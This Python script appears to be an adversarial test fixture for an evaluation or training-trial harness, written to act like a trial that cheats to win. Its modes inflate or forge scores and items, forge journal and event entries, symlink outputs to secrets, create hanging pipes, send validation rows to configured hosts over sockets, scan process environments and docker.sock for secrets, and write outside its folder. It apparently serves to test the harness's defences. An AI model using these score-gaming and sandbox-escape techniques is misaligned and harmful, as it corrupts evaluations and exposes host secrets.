"""Reports a fine score, and on the way does what ``in/script.json`` says. Standard library only.

It stands for the worst that the code of a trial can be: a method of another package that wants to win.
"""

import contextlib
import json
import os
import socket
import sys
from pathlib import Path


class Trial:
    """The job's folder and script."""

    def __init__(self, argv):
        self.folder, self.model = Path(argv[0]), Path(argv[2])
        self.out = self.folder / "out"
        self.script = json.loads((self.folder / "in" / "script.json").read_text())
        self.rows = [json.loads(line) for line in (self.folder / "in" / "val.jsonl").read_text().splitlines()]

    def event(self, **said):
        with (self.out / "events.jsonl").open("a") as file:
            file.write(json.dumps(said) + "\n")

    def note(self, **facts):
        self.event(kind="noted", message=json.dumps(facts))

    def items(self, right):
        """An honest file of items of which the first ``right`` are so."""
        for number, row in enumerate(self.rows):
            good = number < right
            said = row["target"] if good else "nothing of the kind"
            yield {"id": row["id"], "score": float(good), "prediction": said, "target": row["target"]}

    def end(self, items, value=None, rows=None):
        items = list(items)
        (self.out / "items.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
        mean = sum(item["score"] for item in items) / max(1, len(items))
        measured = {
            "value": mean if value is None else value,
            "rows": len(items) if rows is None else rows,
            "step": 9,
            "seconds": 1.0,
        }
        self.event(kind="measured", measurement=measured, final=True)
        (self.out / "result.json").write_text(json.dumps({"status": "done", "measurement": measured, "steps": 9}))
        return 0


def honest(trial):
    return trial.end(trial.items(3))


def inflated(trial):
    return trial.end(trial.items(3), value=0.99)


def few_rows(trial):
    return trial.end(list(trial.items(3))[:3])


def other_rows(trial):
    return trial.end({**item, "id": f"mine-{at}"} for at, item in enumerate(trial.items(len(trial.rows))))


def easier_targets(trial):
    return trial.end({**item, "target": item["prediction"], "score": 1.0} for item in trial.items(3))


def unearned(trial):
    return trial.end({**item, "score": 1.0} for item in trial.items(3))


def beyond_all(trial):
    return trial.end({**item, "score": 1e9} for item in trial.items(3))


def not_a_number(trial):
    return trial.end(trial.items(3), value=float("nan"))


def no_items(trial):
    trial.end(trial.items(len(trial.rows)))
    (trial.out / "items.jsonl").unlink()
    return 0


def score_alone(trial):
    """Says at a rung that it is perfect, so that others are stopped for it, and ends as it is."""
    measured = {"value": 1.0, "rows": len(trial.rows), "step": 9, "seconds": 1.0}
    trial.event(kind="measured", measurement=measured, final=True)
    return 0


def forged_events(trial):
    """Speaks to the journal in its own words, approves itself and ends the study with a winner."""
    for line in trial.script["lines"]:
        with (trial.out / "events.jsonl").open("a") as file:
            file.write(line + "\n")
    return honest(trial)


def journal(trial):
    """Appends to the journal itself, where its user may."""
    path = trial.folder.parents[1] / "journal.jsonl"
    try:
        with path.open("a") as file:
            file.writelines(line + "\n" for line in trial.script["lines"])
        trial.note(written=[str(path)])
    except OSError:
        trial.note(written=[])
    return honest(trial)


def links(trial):
    """Leaves links to what only the host can see where the host will look, and a pipe that never ends."""
    trial.end(trial.items(3))
    for name in ("items.jsonl", "log-of-mine.json"):
        (trial.out / name).unlink(missing_ok=True)
        (trial.out / name).symlink_to(trial.script["secret"])
    (trial.out / "adapter").mkdir()
    (trial.out / "adapter" / "adapter_model.safetensors").symlink_to(trial.script["secret"])
    (trial.out / "prefix").mkdir()
    (trial.out / "prefix" / "0").symlink_to(Path(trial.script["secret"]).parent)
    os.mkfifo(trial.out / "notes.json")
    return 0


def pipe(trial):
    """Its events and its result never come to an end."""
    (trial.out / "events.jsonl").unlink(missing_ok=True)
    os.mkfifo(trial.out / "events.jsonl")
    os.mkfifo(trial.out / "result.json")
    return 0


def exfiltrate(trial):
    reached = []
    for host, port in trial.script["addresses"]:
        try:
            with socket.create_connection((host, port), timeout=3) as sent:
                sent.sendall(json.dumps(trial.rows).encode())
            reached.append(host)
        except OSError:
            continue
    with contextlib.suppress(OSError):
        reached.append(socket.gethostbyname(trial.script["name"]))
    trial.note(reached=reached)
    return honest(trial)


def read_secrets(trial):
    """Looks for a secret in its environment and those of its ancestors, and in the files of a home."""
    mark, found = trial.script["mark"], []
    places = [Path("/proc/self/environ")]
    if trial.script["everywhere"]:
        places = [*Path("/proc").glob("[0-9]*/environ"), Path(trial.script["file"]), Path("/var/run/docker.sock")]
    for place in places:
        try:
            if place.is_socket() or mark.encode() in place.read_bytes():
                found.append(str(place))
        except OSError:
            continue
    trial.note(found=found, names=sorted(os.environ))
    return honest(trial)


def trespass(trial):
    """Opens for writing, and changes nothing of, what a winner would like to change; writes what it is told to."""
    written = []
    for place in trial.script["open"]:
        try:
            with Path(place).open("r+b"):
                written.append(place)
        except OSError:
            continue
    for place, text in trial.script.get("write", {}).items():
        try:
            Path(place).write_text(text)
            written.append(place)
        except OSError:
            continue
    seen = [place for place in trial.script.get("look", []) if Path(place).exists()]
    trial.note(written=written, seen=seen)
    return honest(trial)


def main(argv):
    trial = Trial(argv)
    return globals()[trial.script["do"]](trial)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
